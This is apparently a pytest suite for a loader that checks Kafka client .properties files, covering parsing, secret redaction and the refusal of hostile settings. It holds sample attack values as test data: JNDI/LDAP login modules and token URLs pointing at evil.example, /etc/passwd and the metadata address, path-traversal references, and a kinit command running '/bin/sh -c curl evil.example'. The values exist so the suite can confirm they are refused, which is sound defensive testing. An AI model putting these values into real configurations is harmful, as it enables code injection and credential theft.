"""Client .properties files: what they mean for kafka-python, and what is refused before anything starts."""

import os
import pickle
import re
import socket
import ssl
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from kafka.net.manager import KafkaConnectionManager
from kafka.net.sasl import SASL_MECHANISMS
from pyspark.sql import SparkSession

from jobs.errors import ClientPropertiesError
from jobs.sources.client.known_settings import CONNECTION, OTHER, SECURITY
from jobs.sources.client_properties import LOGIN_MODULES, ClientProperties, load_client_properties
from tests.spark_defaults import spark_defaults

KAFKA = "org.apache.kafka.common.security"
PLAIN = f"{KAFKA}.plain.PlainLoginModule"
SCRAM = f"{KAFKA}.scram.ScramLoginModule"
OAUTH = f"{KAFKA}.oauthbearer.OAuthBearerLoginModule"
KERBEROS = "com.sun.security.auth.module.Krb5LoginModule"
MSK = "software.amazon.msk.auth.iam.IAMLoginModule"
HANDLER = f"{KAFKA}.oauthbearer.OAuthBearerLoginCallbackHandler"

PROVIDERS = "org.apache.kafka.common.config.provider"
JAAS = "sasl.jaas.config"

Load = Callable[..., ClientProperties]


def sasl(mechanism: str, login: str, protocol: str = "SASL_SSL") -> str:
    """The settings of a login; backslashes of JAAS are doubled, as the file wants them."""
    jaas = login.replace("\\", "\\\\")
    return f"security.protocol={protocol}\nsasl.mechanism={mechanism}\n{JAAS}={jaas}\n"


def variable(provider: str, reference: str, **parameters: str) -> str:
    """A client id from a config provider."""
    given = "".join(f"\nconfig.providers.x.param.{name.replace('_', '.')}={it}" for name, it in parameters.items())
    return f"config.providers=x\nconfig.providers.x.class={provider}{given}\nclient.id=${{x:{reference}}}\n"


@pytest.fixture
def load(tmp_path: Path) -> Load:
    """Write a file, readable by its owner, and load it."""

    def loaded(content: str | bytes, **environment: str) -> ClientProperties:
        path = tmp_path / "client.properties"
        path.touch(mode=0o600)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return load_client_properties(str(path), environment)

    return loaded


# What a file means


def test_without_a_file_the_connection_is_plain() -> None:
    """No file, or an empty setting: PLAINTEXT, and our name as the client's."""
    for path in (None, ""):
        properties = load_client_properties(path, {})
        assert properties.security_protocol == "PLAINTEXT"
        assert properties.kafka_python()["client_id"] == "groupledger"
        assert properties.notes == ()


def test_every_argument_is_known_to_kafka_python(load: Load) -> None:
    """It ignores others in silence, so none may be misspelt."""
    contents = [
        "security.protocol=SSL\nclient.id=a\nconnections.max.idle.ms=2\nmetadata.max.age.ms=3\n"
        "reconnect.backoff.ms=4\nreconnect.backoff.max.ms=5\nsocket.connection.setup.timeout.ms=6\n"
        "socket.connection.setup.timeout.max.ms=7\nsend.buffer.bytes=8\nclient.dns.lookup=use_all_dns_ips",
        sasl("PLAIN", f"{PLAIN} required username=a password=b;"),
        sasl("OAUTHBEARER", f"{OAUTH} required unsecuredLoginStringClaim_sub=a;"),
    ]
    for content in contents:
        assert set(load(content).kafka_python()) <= set(KafkaConnectionManager.DEFAULT_CONFIG)


def test_the_settings_of_a_connection(load: Load) -> None:
    """Numbers, names and socket options, as kafka-python calls them."""
    arguments = load(
        "client.id = ledger\nreconnect.backoff.ms: 1500\nreceive.buffer.bytes=65536\nsend.buffer.bytes=-1"
    ).kafka_python()
    assert arguments["client_id"] == "ledger"
    assert arguments["reconnect_backoff_ms"] == 1500
    assert arguments["socket_options"] == [
        *KafkaConnectionManager.DEFAULT_CONFIG["socket_options"],
        (socket.SOL_SOCKET, socket.SO_RCVBUF, 65536),
    ]


def test_a_file_as_it_is(load: Load) -> None:
    """Comments, continuations, spaces at the ends, a protocol in small letters, and settings of consumers."""
    properties = load(
        "# our cluster\nsecurity.protocol = sasl_ssl \nsasl.mechanism:SCRAM-SHA-512\n"
        f'{JAAS} = {SCRAM} required \\\n    username="alice" \\\n    password="it\'s \\\\"quoted\\\\"";\n'
        "group.id=orders\nkey.deserializer=org.apache.kafka.common.serialization.StringDeserializer\n"
    )
    arguments = properties.kafka_python()
    assert (arguments["security_protocol"], arguments["sasl_mechanism"]) == ("SASL_SSL", "SCRAM-SHA-512")
    assert arguments["sasl_plain_username"] == "alice"
    assert arguments["sasl_plain_password"] == 'it\'s "quoted"'
    assert isinstance(arguments["ssl_context"], ssl.SSLContext)
    (note,) = properties.notes
    assert note.endswith("client.properties: not used here: group.id, key.deserializer")


def test_a_scram_user_is_escaped(load: Load) -> None:
    """SCRAM separates its fields by commas, and kafka-python does not escape."""
    content = "security.protocol=SASL_PLAINTEXT\nsasl.mechanism=SCRAM-SHA-256\nsasl.jaas.config="
    arguments = load(f'{content}{SCRAM} required username="a=b,c" password="a=b,c";').kafka_python()
    assert arguments["sasl_plain_username"] == "a=3Db=2Cc"
    assert arguments["sasl_plain_password"] == "a=b,c"


def test_every_mechanism_of_kafka_python_is_known() -> None:
    """None is left out."""
    assert set(LOGIN_MODULES) == set(SASL_MECHANISMS)


def test_kerberos(load: Load, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The service's name from either place; a keytab and a ticket cache go to the library by the environment."""
    monkeypatch.setattr("jobs.sources.client_properties.find_spec", lambda _: object())
    monkeypatch.delenv("KRB5_CLIENT_KTNAME", raising=False)
    monkeypatch.setenv("KRB5CCNAME", "kept")
    keytab = tmp_path / "a.keytab"
    keytab.touch()
    content = (
        f'security.protocol=SASL_PLAINTEXT\nsasl.jaas.config={KERBEROS} required useKeyTab=true keyTab="{keytab}" '
    )
    properties = load(content + 'ticketCache="other" serviceName="kafka";')
    assert properties.sasl_mechanism == "GSSAPI"
    assert properties.kafka_python()["sasl_kerberos_service_name"] == "kafka"
    assert os.environ["KRB5_CLIENT_KTNAME"] == str(keytab)
    assert os.environ["KRB5CCNAME"] == "kept"
    keytab.rename(tmp_path / "b.keytab")
    load(content.replace("a.keytab", "b.keytab") + 'serviceName="kafka";').kafka_python()
    assert os.environ["KRB5_CLIENT_KTNAME"] == str(tmp_path / "b.keytab"), "a file that changed names another one"
    monkeypatch.delenv("KRB5_CLIENT_KTNAME")
    (tmp_path / "a.keytab").touch()
    assert load(content + ";\nsasl.kerberos.service.name=k").kafka_python()["sasl_kerberos_service_name"] == "k"


def test_amazon_msk(load: Load, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its own handler and module, and a profile."""
    monkeypatch.setattr("jobs.sources.client_properties.find_spec", lambda _: object())
    monkeypatch.setenv("AWS_PROFILE", "kept")
    properties = load(
        f'security.protocol=SASL_SSL\nsasl.mechanism=AWS_MSK_IAM\nsasl.jaas.config={MSK} required awsProfileName="p";\n'
        "sasl.client.callback.handler.class=software.amazon.msk.auth.iam.IAMClientCallbackHandler"
    )
    assert properties.kafka_python()["sasl_mechanism"] == "AWS_MSK_IAM"
    assert properties.notes == ()


def test_what_a_mechanism_needs_is_reported(load: Load, monkeypatch: pytest.MonkeyPatch) -> None:
    """A Python package that is not there is named before anything starts."""
    monkeypatch.setattr("jobs.sources.client_properties.find_spec", lambda _: None)
    with pytest.raises(ClientPropertiesError, match="GSSAPI needs the Python package gssapi"):
        load(f"security.protocol=SASL_PLAINTEXT\nsasl.jaas.config={KERBEROS} required;")


def test_a_jaas_file_of_kafkas_own_tools(load: Load, tmp_path: Path) -> None:
    """KAFKA_OPTS names it, for whoever has no sasl.jaas.config."""
    jaas = tmp_path / "jaas.conf"
    jaas.write_text(f'KafkaClient {{ {PLAIN} required username="alice" password="secret"; }};')
    content = "security.protocol=SASL_SSL\nsasl.mechanism=PLAIN"
    options = f"-Xmx1g -Djava.security.auth.login.config={jaas}"
    assert load(content, KAFKA_OPTS=options).kafka_python()["sasl_plain_username"] == "alice"
    with pytest.raises(ClientPropertiesError, match=r"sasl\.jaas\.config: is missing"):
        load(content)
    jaas.write_text("KafkaServer { };")
    with pytest.raises(ClientPropertiesError, match="must hold one login module, and holds 0"):
        load(content, KAFKA_OPTS=options)


def test_secrets_outside_of_the_file(load: Load, tmp_path: Path) -> None:
    """From the environment, from a file of keys, from a folder of files: three of Kafka's config providers."""
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "user").write_text("alice")
    (secrets / "more.properties").write_text("pass\\ word=a\\u00e9:b")
    providers = "org.apache.kafka.common.config.provider"
    content = (
        "config.providers=env,file,dir\n"
        f"config.providers.env.class={providers}.EnvVarConfigProvider\n"
        f"config.providers.file.class={providers}.FileConfigProvider\n"
        f"config.providers.dir.class={providers}.DirectoryConfigProvider\n"
        f"config.providers.dir.param.allowed.paths={secrets}\n"
        "security.protocol=${env:PROTOCOL}\nsasl.mechanism=PLAIN\n"
        f'sasl.jaas.config={PLAIN} required username="${{dir:{secrets}:user}}" '
        f'password="${{file:{secrets}/more.properties:pass word}}";\n'
    )
    arguments = load(content, PROTOCOL="SASL_SSL").kafka_python()
    assert arguments["security_protocol"] == "SASL_SSL"
    assert (arguments["sasl_plain_username"], arguments["sasl_plain_password"]) == ("alice", "aé:b")


# What the user is shown


def test_a_file_that_everybody_can_read_is_reported(load: Load, tmp_path: Path) -> None:
    """As ssh tells it, but it is not refused."""
    load("client.id=a")
    path = tmp_path / "client.properties"
    path.chmod(0o644)
    (note,) = load_client_properties(str(path), {}).notes
    assert note.endswith("everybody on this machine can read it: chmod 600")
    path.chmod(0o640)
    assert load_client_properties(str(path), {}).notes == ()


@pytest.mark.parametrize(
    ("content", "note"),
    [
        (sasl("PLAIN", f"{PLAIN} required;", "PLAINTEXT"), f"(security.protocol is PLAINTEXT): {JAAS}, sasl.mechanism"),
        ("security.protocol=SSL\nssl.provider=SunJSSE", "not used here: ssl.provider"),
        ("my.own.setting=1", "not used here: my.own.setting"),
        ("request.timeout.ms=5", "not used here: request.timeout.ms"),  # sources.request_timeout_ms has it
        ("client.id=${env:NAME}", "client.id: has a variable of a provider that config.providers does not name"),
        (sasl("PLAIN", f"{PLAIN} required username=a password=b;", "SASL_PLAINTEXT"), "the password in the clear"),
        ("group.id=größe", "letters outside of ASCII are read as ISO-8859-1"),
    ],
)
def test_notes(load: Load, content: str, note: str) -> None:
    """What is not used, what is not replaced, what goes in the clear, what Java reads otherwise than one thinks."""
    assert any(note in it for it in load(content).notes)


# What is refused: first the slips of honest people


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("security.protcol=SSL", r"line 1: security\.protcol: is no setting .* is security\.protocol meant"),
        ("\nssl.trustore.location=a", r"line 2: ssl\.trustore\.location: .* ssl\.truststore\.location meant"),
        ("sasl.jaas.conf=x", r"sasl\.jaas\.config meant"),
        ("ssl_truststore_location=a", r"ssl\.truststore\.location meant"),
        ("SECURITY.PROTOCOL=SSL", r"security\.protocol meant"),
        (b"\xef\xbb\xbfsecurity.protocol=SSL", r"security\.protocol meant"),
        ("ssl.something=1", "is no security setting"),
        ("security.protocol=TLS", "must be one of PLAINTEXT, SSL"),
        (sasl("SCRAM", f"{SCRAM} required;"), "must be one of PLAIN"),
        (sasl("PLAIN", f"{SCRAM} required;"), r"must be .*PlainLoginModule"),
        (sasl("PLAIN", f"{PLAIN} required username=a;"), "has no password"),
        (sasl("PLAIN", f"{PLAIN} required username=a password=hush"), "semicolon"),
        (sasl("SCRAM-SHA-256", f"{SCRAM} required username=a password=hush tokenauth=true;"), "tokenauth"),
        (sasl("PLAIN", f"{PLAIN} required; {PLAIN} required;"), "holds 2"),
        (sasl("PLAIN", ""), "holds 0"),
        (sasl("OAUTHBEARER", f"{OAUTH} required;"), "needs unsecuredLoginStringClaim_sub"),
        (sasl("GSSAPI", f"{KERBEROS} required;"), "gssapi|service.name: is missing"),
        (sasl("AWS_MSK_IAM", f"{MSK} required;", "SASL_PLAINTEXT"), "botocore|must be SASL_SSL"),
        ("metadata.max.age.ms=soon", "must be a whole number"),
        ("metadata.max.age.ms=-1", "must be a whole number"),
        ("client.dns.lookup=default", "must be one of"),
        ("config.providers=env\nclient.id=${env:NAME}", r"there is no config\.providers\.env\.class"),
        (variable(f"{PROVIDERS}.EnvVarConfigProvider", "NOT_THERE"), r"\$\{x:NOT_THERE\} has no value"),
        (variable(f"{PROVIDERS}.EnvVarConfigProvider", "path:NAME"), "has no path"),
        (variable(f"{PROVIDERS}.FileConfigProvider", "/none/at/all:a"), "there is no such file"),
        (variable(f"{PROVIDERS}.DirectoryConfigProvider", "/none/at/all:a"), "has no value"),
        (variable(f"{PROVIDERS}.FileConfigProvider", "a:b", allowed_paths="relative"), "must list absolute paths"),
        (variable(f"{PROVIDERS}.EnvVarConfigProvider", "a", allowlist_pattern="("), "is not a regular expression"),
    ],
)
def test_slips_are_reported(load: Load, content: str | bytes, reason: str) -> None:
    """A misspelt security setting, a mechanism and a module that do not fit: one line with file, line and key."""
    with pytest.raises(ClientPropertiesError, match=reason) as caught:
        load(content)
    assert "\n" not in str(caught.value)
    assert "hush" not in str(caught.value)
    assert "client.properties" in str(caught.value)


# Then what nobody honest writes

LOGIN = {
    "JNDI": 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example/x";',
    "LDAP": 'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil.example/x";',
    "a key store": 'com.sun.security.auth.module.KeyStoreLoginModule required keyStoreURL="file:/etc/passwd";',
    "a module of one's own": "evil.Module required;",
    "a second module": f"{PLAIN} required username=a password=hush; evil.Module required;",
    "a module in other letters": f"{PLAIN.upper()} required;",
    "a NUL in a password": f'{PLAIN} required username=a password="x\\0hush";',
    "a line break in a user": f'{PLAIN} required username="a\\nb" password=hush;',
    "a password without end": f"{PLAIN} required username=a password={'x' * 20_000};",
}
CLASSES = {
    "sasl.login.callback.handler.class": "evil.Handler",
    "sasl.client.callback.handler.class": "evil.Handler",
    "sasl.login.class": "evil.Login",
    "ssl.engine.factory.class": "evil.Factory",
    "security.providers": "evil.Provider",
    "interceptor.classes": "evil.Interceptor",
    "metric.reporters": "org.apache.kafka.common.metrics.JmxReporter,evil.Reporter",
    "key.deserializer": "evil.Deserializer",
    "value.serializer": "evil.Serializer",
    "partitioner.class": "evil.Partitioner",
    "partition.assignment.strategy": "org.apache.kafka.clients.consumer.RangeAssignorEvil",
    "sasl.oauthbearer.jwt.retriever.class": "evil.Retriever",
    "sasl.oauthbearer.jwt.validator.class": "evil.Validator",
}
TOKEN_URL = "sasl.oauthbearer.token.endpoint.url"
TOKEN_URLS = {
    "a file that is not allowed": "file:///etc/passwd",
    "a file of another machine": "file://evil.example/share/token",
    "an address that is not allowed": "https://evil.example/token",
    "the secret in the clear": "http://169.254.169.254/latest/token",
    "another scheme": "ftp://evil.example/token",
    "a password in the address": "https://user:hush@evil.example/token",
    "no host": "https:///token",
    "no port": "https://evil.example:port/token",
}
TOKEN_LOGIN = f"sasl.login.callback.handler.class={HANDLER}\n" + sasl(
    "OAUTHBEARER", f"{OAUTH} required clientId=a clientSecret=hush;"
)
EXTENSION = f"{OAUTH} required unsecuredLoginStringClaim_sub=a unsecuredLoginExtension_"
VARIABLES = {
    "a provider of one's own": variable("evil.Provider", "a"),
    "a path outside of the allowed ones": variable(
        f"{PROVIDERS}.FileConfigProvider", "/etc/passwd:root", allowed_paths="/usr"
    ),
    "a path that climbs out": variable(
        f"{PROVIDERS}.FileConfigProvider", "/usr/../etc/passwd:root", allowed_paths="/usr"
    ),
    "a file that climbs out": variable(f"{PROVIDERS}.DirectoryConfigProvider", "/usr:../etc/hostname"),
    "a device": variable(f"{PROVIDERS}.FileConfigProvider", "/dev/zero:a"),
    "a path of another machine": variable(f"{PROVIDERS}.FileConfigProvider", "//evil/share:a"),
    "a variable that is not allowed": variable(
        f"{PROVIDERS}.EnvVarConfigProvider", "AWS_SECRET", allowlist_pattern="KAFKA_.*"
    ),
}
OTHERS = {
    "an extension with a field of its own": (sasl("OAUTHBEARER", EXTENSION + 'x="1\\001auth=hush";'), JAAS),
    "an extension in the token's place": (sasl("OAUTHBEARER", EXTENSION + "auth=hush;"), JAAS),
    "keys from a file": ("sasl.oauthbearer.jwks.endpoint.url=file://evil.example/a", "jwks.endpoint.url"),
    "keys in the clear": ("sasl.oauthbearer.jwks.endpoint.url=http://evil.example/keys", "jwks.endpoint.url"),
    "an assertion's key by URL": ("sasl.oauthbearer.assertion.private.key.file=https://evil.example/k", "key.file"),
    "a trust store by URL": ("ssl.truststore.location=https://evil.example/trust.jks", "ssl.truststore.location"),
    "a key store by URL": ("ssl.keystore.location=file:/etc/passwd", "ssl.keystore.location"),
    "a store of another machine": (r"ssl.truststore.location=\\\\evil\\share\\trust", "ssl.truststore.location"),
    "a store of another machine, slashes": ("ssl.truststore.location=//evil/share/trust", "ssl.truststore.location"),
    "a device as a store": ("security.protocol=SSL\nssl.truststore.location=/dev/zero", "ssl.truststore.location"),
    "a NUL in a path": (r"ssl.truststore.location=/etc/\u0000/trust", "ssl.truststore.location"),
    "a command": ("sasl.kerberos.kinit.cmd=/bin/sh -c 'curl evil.example'", "sasl.kerberos.kinit.cmd"),
    "another program": ("sasl.kerberos.kinit.cmd=/bin/kinit/../sh", "sasl.kerberos.kinit.cmd"),
    "a line break": (r"client.id=a\nERROR forged", "client.id"),
    "an escape sequence": (r"client.id=\u001b[2J", "client.id"),
    "half of a character": (r"client.id=\ud83d", "client.id"),
    "a value without end": ("client.id=" + "x" * 20_000, "client.id"),
    "a line break in a key": (r"ssl.x\ny=1", "ssl.x"),
}

HOSTILE: Mapping[str, tuple[str, str]] = {
    **{f"login: {name}": (sasl("PLAIN", login), JAAS) for name, login in LOGIN.items()},
    **{f"class: {key}": (f"{key}={value}", key) for key, value in CLASSES.items()},
    **{f"token: {name}": (f"{TOKEN_LOGIN}{TOKEN_URL}={url}", TOKEN_URL) for name, url in TOKEN_URLS.items()},
    **{f"variable: {name}": (content, "client.id") for name, content in VARIABLES.items()},
    "variable: a provider of one's own": (VARIABLES["a provider of one's own"], "config.providers.x.class"),
    **OTHERS,
}
"""Content of a file, and the setting to blame."""


def test_there_are_enough_hostile_files() -> None:
    """At least thirty."""
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_settings_are_refused(load: Load, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """One clear line which names the setting; no socket is opened, no secret shown."""

    def refuse(*_: Any, **__: Any) -> Any:
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    content, key = HOSTILE[name]
    with pytest.raises(ClientPropertiesError) as caught:
        load(content, AWS_SECRET="hush")
    message = str(caught.value)
    assert "client.properties line " in message
    assert key in message
    assert message.isprintable()
    assert len(message) < 600
    assert "hush" not in message
    assert caught.value.exit_code == 2


def test_a_path_that_is_no_file_is_reported(tmp_path: Path) -> None:
    """A folder, a device, nothing at all."""
    for path in (tmp_path, Path("/dev/null"), tmp_path / "none.properties"):
        with pytest.raises(ClientPropertiesError, match=str(path)):
            load_client_properties(str(path), {})


# What must not be shown


def test_nothing_shows_a_secret(load: Load) -> None:
    """Neither repr nor str nor a pickle: an executor gets the path, and reads the file itself."""
    content = "security.protocol=SASL_SSL\nsasl.mechanism=PLAIN\nsasl.jaas.config="
    properties = load(f"{content}{PLAIN} required username=alice password=hush;")
    for shown in (repr(properties), str(properties), f"{properties}", str(properties.notes)):
        assert "hush" not in shown
        assert "alice" not in shown
    with pytest.raises(TypeError, match="send the path"):
        pickle.dumps(properties)


def test_the_names_of_settings_are_apart() -> None:
    """Each name of Kafka's is in one list."""
    assert not SECURITY & CONNECTION
    assert not SECURITY & OTHER
    assert not CONNECTION & OTHER


PASSWORD_SETTINGS = (
    *("sasl.jaas.config", "ssl.key.password", "ssl.keystore.password", "ssl.truststore.password", "ssl.keystore.key"),
    *("ssl.keystore.certificate.chain", "sasl.oauthbearer.client.credentials.client.secret"),
    "sasl.oauthbearer.assertion.private.key.passphrase",
)
"""Those which Kafka's clients hold to be passwords, but for certificates that are trusted: everybody may see these."""


@pytest.mark.parametrize("name", PASSWORD_SETTINGS)
def test_spark_would_redact_it(name: str) -> None:
    """A second line of defence: whoever hands it to Spark all the same does not find it in the UI or event log."""
    regex = spark_defaults()["spark.redaction.regex"]
    assert re.search(regex, f"spark.hadoop.kafka.{name}")


def test_executors_find_the_file_that_spark_brought(spark: SparkSession, tmp_path: Path) -> None:
    """By its name, where the path is that of another machine; what the file refers to likewise."""
    content = sasl("PLAIN", f"{PLAIN} required username=${{x:/elsewhere/brought.secrets:user}} password=b;", "SASL_SSL")
    provider = f"config.providers=x\nconfig.providers.x.class={PROVIDERS}.FileConfigProvider\n"
    (tmp_path / "brought.properties").write_text(provider + content)
    (tmp_path / "brought.secrets").write_text("user=alice")
    for name in ("brought.properties", "brought.secrets"):
        spark.sparkContext.addFile(str(tmp_path / name))

    def user(_: int) -> str:
        name: str = load_client_properties("/elsewhere/brought.properties").kafka_python()["sasl_plain_username"]
        return name

    assert spark.sparkContext.parallelize([0], 1).map(user).collect() == ["alice"]
    assert user(0) == "alice"
